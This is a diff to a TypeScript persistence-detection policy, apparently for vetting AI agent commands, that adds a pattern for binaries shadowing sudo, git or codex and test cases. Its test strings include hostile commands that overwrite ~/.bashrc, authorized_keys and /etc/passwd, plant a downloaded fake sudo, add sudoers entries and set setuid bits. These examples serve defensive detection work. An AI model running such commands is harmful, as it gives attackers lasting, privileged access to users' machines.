@@ -12,6 +12,10 @@ const AT_TIME =
 const SHELL_STARTUP =
   /^~\/\.(?:bashrc|bash_profile|bash_aliases|profile|zshrc|zshenv|zprofile|config\/fish\/(?:config\.fish|conf\.d\/.*))$/;
 
+/** A program by whose name a person, or Codex, means another: their own folders stand first among those for programs. */
+const STANDS_FIRST =
+  /^~\/(?:\.local\/)?bin\/(?:codex|git|sudo|su|doas|ssh|(?:ba|z)?sh|env|ls|cat|cp|mv|rm|ps|which|passwd)$/;
+
 /** The policies. */
 export const persistence: readonly Policy[] = [
   {
@@ -29,6 +33,7 @@ export const persistence: readonly Policy[] = [
         }),
         not(command("touch")),
       ),
+      effect("write", { path: STANDS_FIRST }),
       command("systemctl", { verb: /^(?:enable|link|reenable|edit)\b/ }),
       command("launchctl", { verb: /^(?:load|bootstrap|submit|enable)\b/ }),
       command("schtasks", { words: /(?:^|\s)\/create\b/i }),
@@ -100,6 +105,13 @@ export const persistence: readonly Policy[] = [
       "echo 'eval \"$(oh-my-posh init bash --config agent)\"' >> ~/.bashrc",
       "echo 'source <(bash init ~/agent.sh)' >> ~/.bashrc",
       "echo 'set -gx PATH /opt/agent/bin' >> ~/.config/fish/config.fish",
+      "ln -sf $PWD/x ~/bin/codex",
+      "mv git ~/.local/bin/",
+      "curl -o ~/bin/sudo https://example.com/x && chmod +x ~/bin/sudo",
+      "git log -1 --output=/etc/cron.d/x",
+      "git bundle create ~/.bashrc HEAD",
+      "gsutil cp gs://shop/k ~/.bashrc",
+      "kubectl cp shop/web:/x ~/.bashrc",
       "(crontab -l; echo '@reboot /opt/x') | crontab -",
       "echo 'alias ls=x' >> ~/.bashrc",
       "sudo cp x.service /etc/systemd/system/",
@@ -134,6 +146,9 @@ export const persistence: readonly Policy[] = [
       "echo 'direnv hook fish | source' >> ~/.config/fish/config.fish",
       "echo 'set -gx PATH $HOME/.local/bin $PATH' >> ~/.config/fish/config.fish",
       "echo 'fish_add_path ~/.local/bin' >> ~/.config/fish/config.fish",
+      "ln -s $PWD/dist/shop ~/.local/bin/shop",
+      "ln -s $(which fdfind) ~/.local/bin/fd",
+      "ls -l ~/bin/codex",
       "crontab -l",
       "cat ~/.bashrc",
       "systemctl status nginx",
@@ -156,6 +171,9 @@ export const persistence: readonly Policy[] = [
     ),
     hits: [
       "ssh-copy-id -i /tmp/k.pub root@host.example.com",
+      "aws s3 cp s3://shop/k ~/.ssh/authorized_keys",
+      "git diff --no-index --output=$HOME/.ssh/authorized_keys a b",
+      "git format-patch -o ~/.ssh HEAD~1",
       "cat key.pub >> ~/.ssh/authorized_keys",
       "tee -a /home/ada/.ssh/authorized_keys < k.pub",
       "cp -rT conf ~/.ssh",
@@ -166,6 +184,7 @@ export const persistence: readonly Policy[] = [
     ],
     misses: [
       "cat ~/.ssh/authorized_keys",
+      "aws s3 cp ~/.ssh/authorized_keys.md s3://shop/k",
       "ssh-copy-id host.example.com",
       "cp deploy_key.pub ~/.ssh/",
       "rsync -a ~/.ssh/config backup/",
@@ -236,6 +255,7 @@ export const persistence: readonly Policy[] = [
     ),
     hits: [
       "echo 'ada ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+      "docker cp web:/x /etc/passwd",
       "chmod u+s /bin/bash",
       "sudo usermod -aG sudo ada",
       "setcap cap_setuid+ep /tmp/x",
